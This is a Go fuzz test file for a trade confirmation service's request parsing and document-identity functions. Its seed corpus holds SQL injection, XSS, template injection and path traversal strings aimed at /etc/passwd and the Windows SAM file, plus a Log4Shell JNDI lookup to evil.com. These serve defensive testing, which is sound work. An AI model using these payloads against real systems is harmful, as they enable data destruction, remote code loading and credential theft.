// Package security provides fuzz tests for the trade confirmation service's
// input handling. The primary invariant is that no input should cause a panic
// in JSON parsing, request validation, or identity derivation.
package security

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/uuid"

	"github.com/clearlane/trade-confirmation-service/internal/domain"
)

// FuzzWorkflowRequestDocumentPath feeds arbitrary document paths through the
// same decode, validate and normalize steps a real submission traverses, and
// checks the identity derivations hold for any input that survives them.
func FuzzWorkflowRequestDocumentPath(f *testing.F) {
	seeds := []string{
		// Realistic paths
		"BANK/confirmation-2024-001.pdf",
		"s3://confirmations/COUNTERPARTY/doc.pdf",
		"gs://bucket/nested/path/file.PDF",

		// SQL injection payloads
		"'; DROP TABLE workflow_sessions; --",
		"1 OR 1=1",
		"' UNION SELECT * FROM users --",
		"Robert'); DROP TABLE students;--",

		// XSS payloads
		"<script>alert('xss')</script>",
		`<img src=x onerror=alert('xss')>`,
		`<svg/onload=alert('xss')>`,

		// Null bytes and control characters
		"doc\x00with\x00nulls",
		"doc\nwith\nnewlines",
		"doc\twith\ttabs",
		"doc\rwith\rcarriage\rreturns",

		// Unicode edge cases
		"\u200B", // zero-width space
		"\uFEFF", // BOM
		"\uFFFD", // replacement character
		"\U0001F4A9",
		"Sch\u00f6dinger.pdf",
		"\u202Eright-to-left\u202C",
		"\u0000\u0001\u0002\u0003",
		string([]byte{0xfe, 0xff}), // invalid UTF-8

		// Long strings
		strings.Repeat("a", 10000),
		strings.Repeat("\u00e9", 5000),

		// JNDI / Log4Shell
		"${jndi:ldap://evil.com/a}",

		// Template injection
		"{{.Env.SECRET}}",
		"${7*7}",

		// Path traversal
		"../../etc/passwd",
		"..\\..\\windows\\system32\\config\\sam",

		// Extension and scheme edge cases
		"no-extension",
		"only.ext",
		".hidden",
		"trailing.dot.",
		"scheme-only://",
		"a://b",

		// Empty and whitespace
		"",
		" ",
		"\t\n\r",
		"----",
		"....",
	}

	for _, seed := range seeds {
		f.Add(seed)
	}

	f.Fuzz(func(t *testing.T, documentPath string) {
		// JSON round-trip must never panic, and valid UTF-8 survives intact.
		encoded, err := json.Marshal(map[string]string{
			"document_path": documentPath,
			"source_type":   "BANK",
		})
		if err != nil {
			return
		}

		var req domain.WorkflowRequest
		if err := json.Unmarshal(encoded, &req); err != nil {
			return
		}
		if utf8.ValidString(documentPath) && req.DocumentPath != documentPath {
			t.Errorf("JSON round-trip changed valid UTF-8 path:\n  original: %q\n  decoded:  %q", documentPath, req.DocumentPath)
		}

		// Validation must never panic; a rejected request goes no further.
		if err := req.Validate(); err != nil {
			return
		}
		req.Normalize()

		// The derived document identity is never empty and uses only safe
		// characters, whatever the path contained.
		if req.DocumentID == "" {
			t.Errorf("normalize produced an empty document id for path %q", documentPath)
		}
		for _, r := range req.DocumentID {
			safe := (r >= 'a' && r <= 'z') || (r >= 'A' && r <= 'Z') || (r >= '0' && r <= '9') || r == '_' || r == '-'
			if !safe {
				t.Errorf("document id %q contains unsafe character %q (path %q)", req.DocumentID, r, documentPath)
				break
			}
		}

		// The session identity is always a well-formed UUID.
		if _, err := uuid.Parse(req.SessionID()); err != nil {
			t.Errorf("session id %q is not a UUID (path %q): %v", req.SessionID(), documentPath, err)
		}

		// The fingerprint is always 64 hex characters.
		if fp := req.Fingerprint(); len(fp) != 64 {
			t.Errorf("fingerprint %q has length %d, want 64 (path %q)", fp, len(fp), documentPath)
		}

		// Identity derivation is deterministic. Invalid UTF-8 is excluded
		// because JSON encoding rewrites it before the request decodes.
		if utf8.ValidString(documentPath) && domain.DocumentIDFromPath(documentPath) != req.DocumentID {
			t.Errorf("document id derivation is not deterministic for path %q", documentPath)
		}
	})
}

// FuzzWorkflowRequestJSON tests that arbitrary bytes sent as a request body
// never cause a panic in the unmarshal or validation path.
func FuzzWorkflowRequestJSON(f *testing.F) {
	f.Add([]byte(`{"document_path":"BANK/doc.pdf","source_type":"BANK"}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`{"document_path":""}`))
	f.Add([]byte(`{"document_path":null}`))
	f.Add([]byte(`{"document_path":123}`))
	f.Add([]byte(`{"document_path":true}`))
	f.Add([]byte(`{"document_path":[]}`))
	f.Add([]byte(`{"source_type":"NEITHER"}`))
	f.Add([]byte(`{"source_type":"bank"}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte(`{"document_path":"a","extra":"b"}`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"document_path": "` + strings.Repeat("a", 100000) + `"}`))
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, data []byte) {
		var req domain.WorkflowRequest
		if err := json.Unmarshal(data, &req); err != nil {
			return
		}

		// Whatever decoded, validation and normalization must not panic.
		if err := req.Validate(); err != nil {
			return
		}
		req.Normalize()
		_ = req.SessionID()
		_ = req.Fingerprint()
	})
}

// FuzzDocumentIDFromPath hits the identity function directly, without the
// validation gate, since ingest consumers may hand it anything.
func FuzzDocumentIDFromPath(f *testing.F) {
	f.Add("BANK/confirmation-2024-001.pdf")
	f.Add("s3://bucket/key.pdf")
	f.Add("")
	f.Add("///")
	f.Add("....")
	f.Add(string([]byte{0xfe, 0xff, 0x00}))
	f.Add(strings.Repeat("x", 65536))

	f.Fuzz(func(t *testing.T, documentPath string) {
		id := domain.DocumentIDFromPath(documentPath)
		if id == "" {
			t.Errorf("derived document id is empty for path %q", documentPath)
		}
		if id != domain.DocumentIDFromPath(documentPath) {
			t.Errorf("derivation is not deterministic for path %q", documentPath)
		}
	})
}
